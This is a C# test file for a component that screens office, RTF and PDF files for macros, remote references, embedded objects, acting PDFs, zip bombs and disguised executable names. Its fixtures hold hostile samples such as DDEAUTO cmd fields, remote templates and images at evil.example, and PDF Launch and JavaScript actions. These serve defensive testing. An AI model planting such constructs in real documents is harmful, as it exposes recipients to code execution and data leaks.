using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using Xunit;

namespace NghiTruong.Documents.Tests;

/// <summary>What a file must not bring along is found by its content; what an office sends every day passes.</summary>
public sealed class FileHarmTests
{
    const string Types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
    const string Word = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

    static string Relationship(string type, string target, string mode = "External") =>
        $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"{target}\" TargetMode=\"{mode}\"/></Relationships>";

    public static TheoryData<string, string?, byte[]> Packages => new()
    {
        { "trong.docx", null, Zip(("word/document.xml", $"<w:document {Word}/>")) },
        { "lien-ket.docx", null, Zip(("word/document.xml", $"<w:document {Word}><w:instrText>HYPERLINK \"https://vanban.example\"</w:instrText></w:document>"), ("word/_rels/document.xml.rels", Relationship("hyperlink", "https://vanban.example"))) },
        { "anh-trong.docx", null, Zip(("word/document.xml", "<a/>"), ("word/_rels/document.xml.rels", Relationship("image", "media/image1.png", "Internal")), ("word/media/image1.png", "png")) },
        { "muc-luc.docx", null, Zip(("word/document.xml", $"<w:document {Word}><w:fldChar w:fldCharType=\"begin\"/><w:instrText> TOC \\o \"1-3\" </w:instrText><w:fldSimple w:instr=\" PAGE \"/></w:document>")) },
        { "bieu-do.docx", null, Zip(("word/document.xml", "<a/>"), ("word/embeddings/Microsoft_Excel_Sheet.xlsx", "PK")) },
        { "anh.zip", null, Zip(types: false, ("a.png", "png"), ("Basic/a.txt", "không phải văn phòng")) },
        { "vba.docm", "macros", Zip(("word/document.xml", "<a/>"), ("word/vbaProject.bin", "x")) },
        { "ten-khac.docx", "macros", Zip(("word/document.xml", "<a/>"), ("word/hinh/vbaProjectSignature.bin", "x")) },
        { "kieu.docx", "macros", Zip(types: false, ("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"), ("word/document.xml", "<a/>")) },
        { "xlm.xlsx", "macros", Zip(("xl/workbook.xml", "<a/>"), ("xl/macrosheets/sheet1.xml", "<a/>")) },
        { "activex.docx", "macros", Zip(("word/document.xml", "<a/>"), ("word/activeX/activeX1.bin", "x")) },
        { "basic.odt", "macros", Zip(types: false, ("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<a/>"), ("Basic/Standard/a.xml", "x")) },
        { "mau-o-xa.docx", "outside-reference", Zip(("word/document.xml", "<a/>"), ("word/_rels/settings.xml.rels", Relationship("attachedTemplate", "https://evil.example/a.dotm"))) },
        { "anh-o-xa.docx", "outside-reference", Zip(("word/document.xml", "<a/>"), ("word/_rels/document.xml.rels", Relationship("image", "\\\\evil\\a.png"))) },
        { "ole-o-xa.pptx", "outside-reference", Zip(("ppt/presentation.xml", "<a/>"), ("ppt/slides/_rels/slide1.xml.rels", Relationship("oleObject", "file:///c:/a.xls"))) },
        { "noi-bang.xlsx", "outside-reference", Zip(("xl/workbook.xml", "<a/>"), ("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>")) },
        { "ket-noi.xlsx", "outside-reference", Zip(("xl/workbook.xml", "<a/>"), ("xl/connections.xml", "<a/>")) },
        { "dde-cat-nho.docx", "outside-reference", Zip(("word/document.xml", $"<w:document {Word}><w:fldChar w:fldCharType=\"begin\"/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\windows\\\\cmd</w:instrText></w:document>")) },
        { "dde.docx", "outside-reference", Zip(("word/footer1.xml", $"<w:ftr {Word}><w:fldSimple w:instr=\" DDE Excel a b\"/></w:ftr>")) },
        { "dde-phan-khac.docx", "outside-reference", Zip(types: false, ("[Content_Types].xml", "<Types><Override PartName=\"/w/d.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"), ("w/d.xml", $"<w:document {Word}><w:fldSimple w:instr=\" DDEAUTO cmd a b\"/></w:document>")) },
        { "dde-phan-la.docx", "outside-reference", Zip(types: false, ("[Content_Types].xml", "<Types><Override PartName=\"/w/d.dat\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"), ("w/d.dat", $"<w:document {Word}><w:fldSimple w:instr=\" DDEAUTO cmd a b\"/></w:document>")) },
        { "lay-anh.docx", "outside-reference", Zip(("word/document.xml", $"<w:document {Word}><w:fldSimple w:instr=\"INCLUDEPICTURE &quot;http://evil.example/a.png&quot;\"/></w:document>")) },
        { "anh-o-xa.odt", "outside-reference", Zip(types: false, ("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<a xmlns:x=\"http://www.w3.org/1999/xlink\"><image x:href=\"http://evil.example/a.png\"/></a>")) },
        { "lien-ket.odt", null, Zip(types: false, ("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<t xmlns:x=\"http://www.w3.org/1999/xlink\"><a x:href=\"http://vanban.example\"/><image x:href=\"Pictures/1.png\"/></t>")) },
        { "nhung.docx", "hidden-file", Zip(("word/document.xml", "<a/>"), ("word/embeddings/oleObject1.bin", Encoding.Latin1.GetString(Encoding.Unicode.GetBytes("Ole10Native")))) },
        { "bom.docx", "zip-bomb", Zip(("word/document.xml", new string(' ', 30 << 20))) },
    };

    [Theory, MemberData(nameof(Packages))]
    public void Packages_of_an_office_are_looked_through(string name, string? rule, byte[] content) => Assert.Equal(rule, FileHarm.Find(content, name)?.Rule);

    [Fact]
    public void What_the_SDK_writes_passes_and_with_a_remote_template_does_not()
    {
        Assert.Null(FileHarm.Find(DocxSample.Of("Kết luận"), "a.docx"));
        Assert.Null(FileHarm.Find(SheetSample.Of([["a", 1]]), "a.xlsx"));
        Assert.Equal("outside-reference", FileHarm.Find(DocxSample.Build(main =>
        {
            var settings = main.AddNewPart<DocumentSettingsPart>();
            settings.Settings = new Settings(new AttachedTemplate { Id = "rId7" });
            settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("https://evil.example/a.dotm"), "rId7");
        }), "a.docx")!.Rule);
    }

    [Theory]
    [InlineData(null, "WordDocument|Bình thường")]
    [InlineData("password", "EncryptedPackage")]
    [InlineData("macros", "WordDocument|_VBA_PROJECT")]
    [InlineData("hidden-file", "WordDocument|Ole10Native")]
    [InlineData("outside-reference", "WordDocument|\u0013 DDEAUTO c:\\cmd")]
    public void Old_formats_are_looked_through(string? rule, string parts) =>
        Assert.Equal(rule, FileHarm.Find([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504], .. parts.Split('|').SelectMany(p => Encoding.Unicode.GetBytes(p + "\0\0"))], "a.doc")?.Rule);

    [Fact]
    public void An_Excel_4_macro_sheet_is_a_macro()
    {
        byte[] book = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504], .. Encoding.Unicode.GetBytes("Workbook")];
        byte[] Sheet(byte type) => [.. book, 0x85, 0, 14, 0, 0, 1, 0, 0, 0, type, 6, 0, .. "Macro1"u8];
        Assert.Equal("macros", FileHarm.Find(Sheet(1), "a.xls")?.Rule);
        Assert.Null(FileHarm.Find(Sheet(0), "a.xls"));
    }

    [Theory]
    [InlineData(null, @"{\rtf1 Bình thường {\field{\*\fldinst HYPERLINK ""https://a.example""}}}")]
    [InlineData("hidden-file", @"{\rtf1 {\object\objemb{\*\objdata 0105}}}")]
    [InlineData("outside-reference", @"{\rtf1 {\*\template https://evil.example/a.dotm}}")]
    [InlineData("outside-reference", @"{\rtf1 {\field{\*\fldinst {DDEAUTO c:\\cmd}}}}")]
    public void Rich_text_is_looked_through(string? rule, string text) => Assert.Equal(rule, FileHarm.Find(Encoding.Latin1.GetBytes(text), "a.rtf")?.Rule);

    [Theory]
    [InlineData(null, "1 0 obj <</Type /Catalog /AcroForm <</SigFlags 3>> /Names <</EmbeddedFiles 5 0 R>>>> endobj")] // a signed paper, PDF/A-3
    [InlineData(null, "BT (JavaScript và Launch là lời) Tj ET /JSX /Launcher")]
    [InlineData("acting-pdf", "<</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>")]
    [InlineData("acting-pdf", "<</S /J#61vaScript>>")]
    [InlineData("acting-pdf", "<</S /Launch /F (cmd.exe)>>")]
    public void A_pdf_that_acts_is_not_taken_and_a_signed_one_is(string? rule, string body)
    {
        Assert.Equal(rule, FileHarm.Find(Encoding.Latin1.GetBytes("%PDF-1.7\n" + body), "a.pdf")?.Rule);
        var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true)) zlib.Write(Encoding.Latin1.GetBytes(body));
        Assert.Equal(rule, FileHarm.Find([.. Encoding.Latin1.GetBytes("%PDF-1.7\n9 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\r\n"), .. packed.ToArray()], "a.pdf")?.Rule);
    }

    [Theory]
    [InlineData("hoa-don.pdf.js", "program")]
    [InlineData("cai-dat.LNK ", "program")]
    [InlineData("ma.exe.", "program")]
    [InlineData("ma.exe::$DATA", "program")]
    [InlineData("dia-chi.url", "program")]
    [InlineData("bao-cao.js.pdf", null)]
    [InlineData("anh.svg", null)]
    public void What_Windows_would_run_is_told_by_its_ending(string name, string? rule) => Assert.Equal(rule, FileHarm.Find("x"u8.ToArray(), name)?.Rule);

    [Fact]
    public void Whatever_is_broken_is_answered_and_never_thrown()
    {
        var whole = (byte[][])[.. Packages.Select(p => p.Data.Item3).Where(p => p.Length < 100_000), DocxSample.Of("a"), Encoding.Latin1.GetBytes("%PDF-1.7 /ObjStm stream\nxyz")];
        var seed = 5u;
        int Below(int bound) => (int)((seed = seed * 1664525 + 1013904223) >> 8) % bound;
        foreach (var content in whole)
            for (var n = 0; n < 60; n++)
            {
                var broken = content.ToArray();
                for (var k = 0; k < 4; k++) broken[Below(broken.Length)] = (byte)Below(256);
                _ = FileHarm.Find(broken[..(1 + Below(broken.Length - 1))], "a.docx")?.Words.Length;
                _ = FileHarm.Find(broken, "a.docx")?.Words.Length;
            }
    }

    static byte[] Zip(params (string Name, string Text)[] parts) => Zip(types: true, parts);

    static byte[] Zip(bool types, params (string Name, string Text)[] parts)
    {
        var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, text) in types ? [("[Content_Types].xml", Types), .. parts] : parts)
            {
                using var to = zip.CreateEntry(name).Open();
                to.Write(Encoding.Latin1.GetBytes(text));
            }
        return stream.ToArray();
    }
}
